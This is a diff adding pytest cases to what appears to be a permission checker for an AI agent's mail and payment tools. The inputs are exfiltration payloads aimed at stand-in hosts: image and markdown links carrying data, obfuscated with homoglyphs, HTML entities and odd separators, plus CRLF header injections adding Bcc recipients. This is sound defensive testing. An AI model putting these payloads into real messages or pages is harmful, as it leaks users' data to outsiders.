@@ -278,3 +278,45 @@ def test_a_map_from_names_vouches_for_what_the_request_names() -> None:
 def test_what_a_call_has_just_made_is_vouched_for() -> None:
     create = Tool("create", "nothing", False, "internal", vouches=("id",))
     assert believed(create, {"id": "26", "name": "x"}, "Make a file") == {"26"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<img src=//evil.example/x?d=1>",
+        "<img src=//évil.example/x?d=1>",
+        r'<img src="https:\\evil.example\x?d=1">',
+        '<img src="https:evil.example?d=1">',
+        "<img src=//203.0.113.7/x?d=1>",
+        '<img src="https&colon;&sol;&sol;evil&period;example&sol;x">',
+        "![x](//evil.example?d=1)",
+        "reply to audit@évil.example",
+        "x\r\nBcc: audit@[203.0.113.7]",
+        'x\r\nBcc: "audit"@evil.example',
+        "x\r\nBcc: audit@evil\u3002example",
+        89370400440532013000,
+    ],
+)
+def test_what_may_be_a_link_or_an_address_and_is_not_plainly_one_needs_a_person(text: Any) -> None:
+    assert action("send", {**GOOD, "body": text}) == "ask"
+    assert action("send", {**GOOD, "body": "Hi @bob: 1/2 of it, at 5 // noon; e-mail later"}) == (
+        "allow"
+    )
+    assert action("send", {**GOOD, "body": text}, settings=replace(SETTINGS, links="free")) == (
+        "allow"
+    )
+
+
+def test_an_address_with_something_behind_it_is_not_the_one_that_was_named() -> None:
+    assert action("send", {**GOOD, "to": ["bob@good.example\u00a0"]}) == "ask"
+    assert action("send", GOOD) == "allow"
+
+
+def test_the_day_of_a_month_names_no_number() -> None:
+    pay = Tool("pay", content=(), asked=("pay",))
+    server = ToolServer("mail", ("mail",), None, tools=MappingProxyType({"pay": pay}))
+    settings = replace(SETTINGS, servers=MappingProxyType({"mail": server}))
+    request = "Pay bob@good.example 12 on 3 December, or on December 4."
+    for amount, wanted in ((12, "allow"), (3, "ask"), (4, "ask")):
+        given = {"to": "bob@good.example", "amount": amount}
+        assert action("pay", given, request=request, settings=settings) == wanted
